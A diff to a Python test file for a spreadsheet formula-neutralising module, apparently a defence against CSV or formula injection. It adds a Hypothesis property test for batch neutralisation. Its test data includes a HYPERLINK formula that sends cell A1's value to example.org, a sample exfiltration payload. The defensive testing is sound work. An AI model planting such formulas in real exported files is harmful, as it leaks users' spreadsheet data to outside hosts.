@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from products.files.formulas import FIRST, neutralise, restore
+from products.files.formulas import FIRST, SEPARATOR, neutralise, neutralise_each, restore
 
 FORMULAS = [
     '=HYPERLINK("http://example.org?x="&A1;"Drill")',
@@ -42,3 +42,9 @@ def test_text_with_an_apostrophe_of_its_own_keeps_it(text: str) -> None:
 def test_any_text_comes_back_unchanged_and_never_begins_a_formula(text: str) -> None:
     assert restore(neutralise(text)) == text
     assert not neutralise(text).startswith(tuple(FIRST))
+
+
+@given(st.lists(st.text(alphabet=st.sampled_from("'a " + FIRST), max_size=4)))
+def test_many_texts_at_once_become_what_each_would(texts: list[str]) -> None:
+    joined = "".join(SEPARATOR + text for text in texts)
+    assert neutralise_each(joined) == "".join(SEPARATOR + neutralise(text) for text in texts)
